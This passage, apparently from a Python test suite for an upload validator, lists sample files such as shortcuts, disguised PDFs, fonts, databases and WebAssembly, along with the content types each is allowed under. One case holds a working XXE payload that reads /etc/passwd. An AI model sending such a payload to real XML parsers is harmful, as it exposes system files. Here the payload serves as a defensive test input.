        DOCUMENTS,
        "",
        "a Windows shortcut",
    ),
    Case(
        "xxe.xml",
        lambda: (
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
        ),
        DOCUMENTS,
        "",
        "XML asking for a local file",
    ),
    Case(
        "notes.txt.pdf",
        lambda: b"These are serials VLT000001 to VLT000100.\n",
        DOCUMENTS,
        "text/plain",
        "text named as a PDF",
    ),
    Case(
        "doc.docx",
        lambda: _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
        DOCUMENTS,
        "",
        "a Word document",
    ),
    Case(
        "font.ttf",
        lambda: b"\x00\x01\x00\x00\x00\x0c\x00\x80\x00\x03" + bytes(200),
        DOCUMENTS,
        "",
        "a font",
    ),
    Case("sqlite.db", lambda: b"SQLite format 3\x00" + bytes(100), EVERYWHERE, "", "a database"),
    Case("python.pyc", lambda: b"\xa7\x0d\x0d\x0a" + bytes(60), DOCUMENTS, "", "compiled Python"),
    Case("wasm.bin", lambda: b"\x00asm\x01\x00\x00\x00" + bytes(20), EVERYWHERE, "", "WebAssembly"),
    Case(
        "pdf-list.csv",
        pdf_document,
        frozenset({"serial_list", "codes"}),
        "",
        "a PDF sent as a list",
    ),
    Case(
        "photo-list.csv", _jpeg, frozenset({"serial_list", "codes"}), "", "a photo sent as a list"
    ),
]

CASES = [*PDFS, *IMAGES, *XLSX_BOMBS, *NOT_DOCUMENTS]
